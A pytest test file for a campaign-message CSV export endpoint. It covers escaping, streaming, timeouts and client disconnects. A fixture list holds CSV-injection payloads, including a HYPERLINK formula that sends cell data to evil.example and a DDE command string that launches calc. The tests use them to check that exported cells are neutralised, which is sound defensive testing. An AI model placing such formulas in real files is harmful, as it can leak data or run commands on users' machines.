"""`GET /campaigns/{id}/messages.csv`: the CSV of a campaign's messages, streamed; on PostgreSQL by `COPY`, on
SQLite from Python, to the same bytes. A client that goes away mid-download ends the COPY."""

from __future__ import annotations

import csv
import http.client
import io
import socket
import threading
import time
from datetime import UTC, datetime
from urllib.parse import urlsplit

import psycopg
import pytest
from sqlalchemy import insert, text

from app.campaigns import export
from app.extensions import db
from app.models import Campaign, Customer, OutboundMessage
from tests.conftest import TEST_API_KEY, TEST_DATABASE_URL
from tests.factories import make_campaign, make_customer

HEADER = [
    "message_id",
    "customer_id",
    "phone",
    "status",
    "error_code",
    "error",
    "retry_count",
    "provider_message_id",
    "created_at",
    "not_before",
    "sent_at",
    "delivered_at",
    "read_at",
    "clicks",
    "first_clicked_at",
    "updated_at",
    "channel",
    "fallback_for",
    "variant",
]
CREATED = datetime(2026, 12, 3, 15, 4, 5, 123456, tzinfo=UTC)
UPDATED = datetime(2026, 12, 3, 15, 4, 6, tzinfo=UTC)  # no microseconds: still written with six digits
AWKWARD = [
    'comma, "quote" and\nnewline',
    "carriage\rreturn and CRLF\r\n",
    "Zoë’s 手机 📱 ünïcödé",
    "",  # an empty string: quoted, unlike a null
    " leading and trailing spaces ",
    "\\.",
    "semicolon; tab\there",
]

# Cells a spreadsheet would run as a formula (OWASP's CSV injection): exported with a `'` before them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def make_message(campaign_id: int, customer_id: int, **fields) -> OutboundMessage:
    values = {"status": "pending", "retry_count": 0, "created_at": CREATED, "updated_at": UPDATED, **fields}
    message = OutboundMessage(campaign_id=campaign_id, customer_id=customer_id, **values)
    db.session.add(message)
    db.session.commit()
    return message


def iso(moment: datetime | None) -> str:
    """How the export writes a timestamp; written out here independently of the code."""
    return "" if moment is None else f"{moment.astimezone(UTC):%Y-%m-%dT%H:%M:%S.%f}Z"


def expected_row(message: OutboundMessage, phone: str | None) -> list[str]:
    return [
        str(message.id),
        str(message.customer_id),
        phone or "",
        message.status,
        message.error_code or "",
        message.last_error or "",
        str(message.retry_count),
        message.provider_message_id or "",
        iso(message.created_at),
        iso(message.not_before),
        iso(message.sent_at),
        iso(message.delivered_at),
        iso(message.read_at),
        str(message.clicks or 0),
        iso(message.first_clicked_at),
        iso(message.updated_at),
        "sms" if message.fallback_for is not None else db.session.get(Campaign, message.campaign_id).channel,
        "" if message.fallback_for is None else str(message.fallback_for),
        message.variant or "",
    ]


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def export_csv(client, campaign_id: int, query: str = ""):
    response = client.get(f"/campaigns/{campaign_id}/messages.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def test_export_has_every_message_by_id_with_its_customer_phone(client):
    amina = make_customer(phone="+254711000222")
    brian = make_customer(phone="+254722000333")
    campaign = make_campaign()
    other = make_campaign(name="Other")
    sent = make_message(
        campaign.id,
        brian.id,
        status="delivered",
        provider_message_id="SM123",
        retry_count=1,
        sent_at=datetime(2026, 12, 3, 15, 59, 0, tzinfo=UTC),
        delivered_at=datetime(2026, 12, 3, 15, 59, 3, 250000, tzinfo=UTC),
        read_at=datetime(2026, 12, 3, 16, 0, 0, 5, tzinfo=UTC),
        not_before=datetime(2026, 12, 4, 5, 0, tzinfo=UTC),
    )
    error = "Invalid 'To' Phone Number"
    failed = make_message(campaign.id, amina.id, status="failed", error_code="21211", last_error=error, retry_count=3)
    make_message(other.id, amina.id)  # another campaign's: not exported
    expected = [expected_row(sent, brian.phone), expected_row(failed, amina.phone)]

    response = export_csv(client, campaign.id)

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="campaign-{campaign.id}-messages.csv"'
    assert parse(response.data) == [HEADER, *expected]
    assert response.data.startswith(b"message_id,customer_id,phone,status,")
    assert (
        b",2026-12-03T15:04:05.123456Z,2026-12-04T05:00:00.000000Z,2026-12-03T15:59:00.000000Z,"
        b"2026-12-03T15:59:03.250000Z,2026-12-03T16:00:00.000005Z," in response.data
    )
    assert response.data.endswith(b"\n") and b"\r" not in response.data


def test_status_filter_keeps_only_that_status(client):
    customers = [make_customer() for _ in range(4)]
    campaign = make_campaign()
    statuses = ["failed", "sent", "failed", "pending"]
    messages = [make_message(campaign.id, c.id, status=s) for c, s in zip(customers, statuses, strict=True)]

    rows = parse(export_csv(client, campaign.id, "?status=failed").data)

    pairs = zip(messages, customers, strict=True)
    assert rows == [HEADER, *(expected_row(m, c.phone) for m, c in pairs if m.status == "failed")]
    assert parse(export_csv(client, campaign.id, "?status=canceled").data) == [HEADER]


def test_a_campaign_without_messages_is_the_header_alone(client):
    campaign = make_campaign()
    response = export_csv(client, campaign.id)
    assert response.data == (",".join(HEADER) + "\n").encode()


def test_awkward_text_and_unicode_round_trip(client):
    campaign = make_campaign()
    customers = [make_customer() for _ in range(len(AWKWARD) + 1)]
    messages = [
        make_message(campaign.id, customer.id, status="failed", last_error=error)
        for customer, error in zip(customers, AWKWARD, strict=False)
    ]
    messages.append(make_message(campaign.id, customers[-1].id, status="failed", error_code="a,b", last_error=None))

    response = export_csv(client, campaign.id)

    pairs = zip(messages, customers, strict=True)
    assert parse(response.data) == [HEADER, *(expected_row(m, c.phone) for m, c in pairs)]
    body = response.data.decode("utf-8")
    assert '"comma, ""quote"" and\nnewline"' in body
    assert '"carriage\rreturn and CRLF\r\n"' in body
    assert f'{customers[3].phone},failed,,"",' in body  # the empty error, quoted
    assert f'{customers[-1].phone},failed,"a,b",,0,' in body  # the null error, empty


def as_text(cell: str) -> str:
    """What the export should write for a text cell: a `'` before one a spreadsheet would run."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def test_cells_a_spreadsheet_would_run_are_exported_as_text_but_phones_keep_their_plus(client):
    campaign = make_campaign()
    rows = []
    for formula in FORMULAS:
        customer = make_customer()
        message = make_message(
            campaign.id,
            customer.id,
            status="failed",
            error_code=formula[:64],
            last_error=formula,
            provider_message_id=formula,
        )
        rows.append(expected_row(message, customer.phone))
    # A phone keeps its leading `+` (E.164, as every write stores it); one that starts like another formula
    # (written to the database by hand) is neutralised like any other cell.
    odd = make_customer(phone="-1+2")
    rows.append(expected_row(make_message(campaign.id, odd.id, last_error="a=b, -c"), odd.phone))
    text_cells = {HEADER.index(name) for name in ("error_code", "error", "provider_message_id")}
    expected = [[as_text(cell) if i in text_cells else cell for i, cell in enumerate(row)] for row in rows]
    expected[-1][HEADER.index("phone")] = "'-1+2"

    response = export_csv(client, campaign.id)

    assert parse(response.data) == [HEADER, *expected]
    assert all(row[2].startswith("+254") for row in expected[:-1])  # phones keep their `+`
    assert expected[-1][5] == "a=b, -c"  # `=` and `-` inside a cell: kept
    cells = [cell for row in parse(response.data)[1:] for i, cell in enumerate(row) if i != HEADER.index("phone")]
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    assert b',"\'=HYPERLINK(""http' in response.data  # the quote, then the cell as it was, quoted as CSV quotes


def test_a_message_whose_customer_is_gone_has_an_empty_phone(client):
    campaign = make_campaign()
    customer = make_customer()
    message = make_message(campaign.id, customer.id, status="failed", last_error="customer gone")
    db.session.execute(text("DELETE FROM customers WHERE id = :id"), {"id": customer.id})  # no foreign key
    db.session.commit()
    assert parse(export_csv(client, campaign.id).data) == [HEADER, expected_row(message, None)]


def test_unknown_campaign_is_a_json_404(client):
    response = client.get("/campaigns/999/messages.csv")
    assert response.status_code == 404
    assert response.get_json() == {
        "code": 404,
        "status": "Not Found",
        "message": "campaign 999 not found",
        "errors": {},
    }


def test_a_bad_status_is_a_json_422_naming_it(client):
    campaign = make_campaign()
    response = client.get(f"/campaigns/{campaign.id}/messages.csv?status=lost")
    assert response.status_code == 422
    assert response.is_json
    assert list(response.get_json()["errors"]) == ["status"]


def test_the_export_needs_an_api_key(anonymous_client):
    campaign = make_campaign()
    response = anonymous_client.get(f"/campaigns/{campaign.id}/messages.csv")
    assert response.status_code == 401
    assert response.is_json and response.headers["WWW-Authenticate"] == 'Bearer realm="api"'


def test_the_openapi_document_describes_the_csv(anonymous_client):
    paths = anonymous_client.get("/openapi.json").get_json()["paths"]
    operation = paths["/campaigns/{campaign_id}/messages.csv"]["get"]
    ok = operation["responses"]["200"]
    assert ok["content"]["text/csv"]["schema"] == {"type": "string"}
    assert ok["content"]["text/csv"]["example"].startswith(",".join(HEADER) + "\n")
    assert "Content-Disposition" in ok["headers"]
    assert {"401", "404", "422", "503"} <= set(operation["responses"])
    assert [p["name"] for p in operation["parameters"] if p["in"] == "query"] == ["status"]


def insert_messages(campaign_id: int, count: int, status: str = "sent") -> None:
    """`count` messages of `count` new customers, in two statements (both backends)."""
    first = make_customer().id
    db.session.execute(
        insert(Customer),
        [{"phone": f"+2541{n:09d}", "first_name": f"F{n}", "location": "Mombasa"} for n in range(1, count)],
    )
    ids = db.session.scalars(text("SELECT id FROM customers WHERE id >= :first ORDER BY id"), {"first": first}).all()
    db.session.execute(
        insert(OutboundMessage),
        [
            {
                "campaign_id": campaign_id,
                "customer_id": customer_id,
                "status": status,
                "retry_count": 0,
                "last_error": f"error of message {n}, with a comma",
                "created_at": CREATED,
                "updated_at": UPDATED,
            }
            for n, customer_id in enumerate(ids)
        ],
    )
    db.session.commit()


def test_a_large_export_comes_in_chunks_and_in_order(client):
    campaign = make_campaign()
    insert_messages(campaign.id, 3000)
    response = client.get(f"/campaigns/{campaign.id}/messages.csv", buffered=False)
    chunks = list(response.response)
    response.close()
    assert len(chunks) >= 3 and max(map(len, chunks)) < 256 * 1024  # about 400 KB, in chunks of 64 KB or so
    rows = parse(b"".join(chunks))
    assert rows[0] == HEADER and len(rows) == 3001
    ids = [int(row[0]) for row in rows[1:]]
    assert ids == sorted(ids) and len(set(ids)) == 3000
    assert {row[5] for row in rows[1:3]} == {"error of message 0, with a comma", "error of message 1, with a comma"}


def test_closing_the_export_early_returns_its_connection(app):
    campaign = make_campaign()
    insert_messages(campaign.id, 3000)
    db.session.rollback()
    pool = db.engine.pool
    idle = pool.checkedout()

    chunks = export.campaign_csv(campaign.id)  # the first chunk is fetched here
    assert pool.checkedout() == idle + 1
    assert next(iter(chunks)).startswith(b"message_id,")
    chunks.close()

    assert pool.checkedout() == idle
    rows = parse(b"".join(export.campaign_csv(campaign.id)))  # the connection serves the next export
    assert len(rows) == 3001
    assert pool.checkedout() == idle


# --- PostgreSQL ---------------------------------------------------------------------------------------------


@pytest.mark.real_only
def test_copy_and_the_python_fallback_write_the_same_bytes(app):
    campaign = make_campaign()
    gone = make_customer()
    for n, error in enumerate(AWKWARD + FORMULAS):
        make_message(
            campaign.id,
            make_customer().id,
            status="failed",
            last_error=error,
            error_code=error[:5] or None,
            provider_message_id=f"id,{n}" if n % 2 else None,
            read_at=datetime(2026, 1, 2, 3, 4, 5, n, tzinfo=UTC) if n % 3 else None,
        )
    make_message(campaign.id, gone.id, status="sent")
    db.session.execute(text("DELETE FROM customers WHERE id = :id"), {"id": gone.id})
    db.session.commit()

    by_copy = b"".join(export._copy_chunks(db.engine, campaign.id, None, 30))
    by_python = b"".join(export._python_chunks(db.engine, campaign.id, None))

    assert by_copy == by_python
    assert len(parse(by_copy)) == len(AWKWARD) + len(FORMULAS) + 2


@pytest.mark.real_only
def test_the_export_is_not_cut_by_the_statement_timeout_but_by_its_own(app, app_with):
    """The export's COPY waits 3 s for a lock: over the statement timeout (1 s) and its round trips'
    deadline (2 s) of every other request, well within the export's own limit. With an export limit of
    1 s, the same wait is the JSON 503 of an unavailable database, before any CSV byte."""
    campaign = make_campaign()
    customer = make_customer()
    expected = [HEADER, expected_row(make_message(campaign.id, customer.id), customer.phone)]
    path = f"/campaigns/{campaign.id}/messages.csv"
    headers = {"Authorization": f"Bearer {TEST_API_KEY}"}
    patient = app_with(DATABASE_STATEMENT_TIMEOUT=1)
    strict = app_with(DATABASE_STATEMENT_TIMEOUT=1, EXPORT_STATEMENT_TIMEOUT=1)
    db.session.rollback()  # this session's read would hold the lock off

    with customers_locked(seconds=3):
        started = time.monotonic()
        response = patient.test_client().get(path, headers=headers)
        waited = time.monotonic() - started
    assert response.status_code == 200, response.get_data(as_text=True)
    assert waited > 2.5
    assert parse(response.data) == expected

    with customers_locked(seconds=3):
        response = strict.test_client().get(path, headers=headers)
    assert response.status_code == 503
    assert response.is_json and response.headers["Retry-After"]


class customers_locked:
    """Hold an exclusive lock on the customers table for `seconds` from another connection."""

    def __init__(self, seconds: float):
        self.seconds = seconds

    def __enter__(self):
        self.conn = psycopg.connect(TEST_DATABASE_URL)
        self.conn.execute("LOCK TABLE customers IN ACCESS EXCLUSIVE MODE")
        self.timer = threading.Timer(self.seconds, self.conn.rollback)
        self.timer.start()
        return self

    def __exit__(self, *exc):
        self.timer.join()
        self.conn.close()


def running_copies(conn: psycopg.Connection) -> list[tuple]:
    """The export's COPY statements running in the test database, and its connections left in a transaction."""
    return conn.execute(
        "SELECT pid, state, query FROM pg_stat_activity WHERE datname = current_database() "
        "AND pid <> pg_backend_pid() AND ((query LIKE 'COPY (SELECT outbound_messages.id%%' AND state <> 'idle') "
        "OR state LIKE 'idle in transaction%%')"
    ).fetchall()


def get(port: int, path: str) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", path, headers={"Authorization": f"Bearer {TEST_API_KEY}"})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def poll(predicate, timeout: float) -> float:
    """Seconds until `predicate()` held; fails after `timeout`."""
    started = time.monotonic()
    while not predicate():
        assert time.monotonic() - started < timeout, f"not within {timeout} s"
        time.sleep(0.05)
    return time.monotonic() - started


@pytest.mark.real_only
def test_a_client_that_goes_away_mid_download_ends_the_copy(app, spawn_web):
    campaign_id = make_campaign().id
    with psycopg.connect(TEST_DATABASE_URL, autocommit=True) as filler:  # no statement timeout
        filler.execute(
            "INSERT INTO customers (phone, first_name, location, created_at, updated_at) "
            "SELECT '+2547' || lpad(g::text, 8, '0'), 'First' || g, 'Nairobi', now(), now() "
            "FROM generate_series(1, 300000) g"
        )
        filler.execute(
            "INSERT INTO outbound_messages (campaign_id, customer_id, status, retry_count, provider_message_id, "
            "created_at, updated_at) SELECT %s, id, CASE WHEN id %% 100000 = 0 THEN 'failed' ELSE 'sent' END, "
            "0, 'SM' || id, now(), now() FROM customers",
            (campaign_id,),
        )
    db.session.rollback()  # no transaction of this test's session in the way of the checks below
    base_url = spawn_web(WEB_CONCURRENCY=1)
    url = urlsplit(base_url)
    watcher = psycopg.connect(TEST_DATABASE_URL, autocommit=True)

    client = socket.create_connection((url.hostname, url.port), timeout=60)
    client.sendall(
        f"GET /campaigns/{campaign_id}/messages.csv HTTP/1.1\r\nHost: {url.netloc}\r\n"
        f"Authorization: Bearer {TEST_API_KEY}\r\n\r\n".encode()
    )
    received = b""
    while len(received) < 16 * 1024:
        received += client.recv(4096)
    assert received.startswith(b"HTTP/1.1 200 ")
    assert b"message_id,customer_id,phone," in received
    # The server has more to send than the sockets between it and this client hold: it is still running.
    poll(lambda: len(running_copies(watcher)) == 1, timeout=60)
    time.sleep(0.5)
    assert running_copies(watcher)[0][1] == "active"

    client.close()  # with unread data: the web process's next write fails
    gone_after = poll(lambda: running_copies(watcher) == [], timeout=60)

    # The web process serves the next export whole, on a connection in a sane state.
    status, body = get(url.port, f"/campaigns/{campaign_id}/messages.csv?status=failed")
    assert status == 200
    assert [row[3] for row in parse(body)[1:]] == ["failed"] * 3
    assert get(url.port, "/health")[0] == 200
    watcher.close()
    print(f"COPY ended {gone_after:.2f} s after the client went away")
